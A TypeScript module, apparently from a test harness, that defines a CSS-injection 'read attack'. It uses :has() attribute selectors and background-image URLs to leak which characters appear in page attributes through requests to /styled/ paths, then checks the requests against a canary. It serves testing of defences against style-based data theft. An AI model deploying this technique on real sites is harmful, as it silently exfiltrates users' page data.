/** Has a style for each letter in an attribute, whose picture the server is asked for. */
import type { ReadAttack } from '../attack.ts';

export const selectsByStyle: ReadAttack = {
  weakness: 'attributes',
  grab: async ({ pause }) => {
    const names = ['title', 'aria-label', 'alt', 'value', 'placeholder', 'data-text', 'srcdoc', 'src'];
    const style = document.createElement('style');
    style.textContent = Array.from({ length: 33 }, (_, index) => {
      const letter = String.fromCodePoint(0x10d0 + index);
      const code = (0x10d0 + index).toString(16);
      const having = names.map((name) => `[${name}*="${letter}"]`).join();
      return `:root:has(${having}) { --${code}: url(/styled/${code}); }`;
    }).join('\n');
    const pictures = Array.from({ length: 33 }, (_, index) => `var(--${(0x10d0 + index).toString(16)}, none)`);
    style.textContent += `:root { background-image: ${pictures.join()} !important; }`;
    document.head.append(style);
    await pause(400);
    style.remove();
  },
  traces: (canary) => [...canary].map((letter) => `/styled/${letter.codePointAt(0)?.toString(16)}`),
};
